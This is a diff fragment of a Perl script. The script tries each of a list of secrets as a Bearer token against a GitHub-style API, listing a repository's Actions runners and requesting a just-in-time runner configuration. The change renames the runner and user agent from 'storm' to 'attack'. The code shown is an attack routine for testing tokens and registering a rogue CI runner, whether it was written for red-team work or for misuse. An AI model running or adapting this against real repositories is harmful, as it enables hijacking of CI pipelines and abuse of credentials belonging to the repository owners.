@@ -22,8 +22,8 @@ for my $secret (@secrets) {
     $secret =~ s/\s//g;
     for my $call ('GET /repos/acme/widgets/actions/runners', 'POST /repos/acme/widgets/actions/runners/generate-jitconfig') {
         my $s = IO::Socket::INET->new(PeerAddr => $host, PeerPort => $port) or die "$!";
-        my $body = $call =~ /^POST/ ? '{"name":"storm","runner_group_id":1,"labels":["ci"]}' : '';
-        print $s "$call HTTP/1.1\r\nHost: $host:$port\r\nAuthorization: Bearer $secret\r\nUser-Agent: storm\r\n",
+        my $body = $call =~ /^POST/ ? '{"name":"attack","runner_group_id":1,"labels":["ci"]}' : '';
+        print $s "$call HTTP/1.1\r\nHost: $host:$port\r\nAuthorization: Bearer $secret\r\nUser-Agent: attack\r\n",
             "Accept: application/vnd.github+json\r\nConnection: close\r\nContent-Type: application/json\r\n",
             "Content-Length: ", length $body, "\r\n\r\n$body";
         my ($status) = (<$s> // '') =~ /^HTTP\S+ (\d+)/;
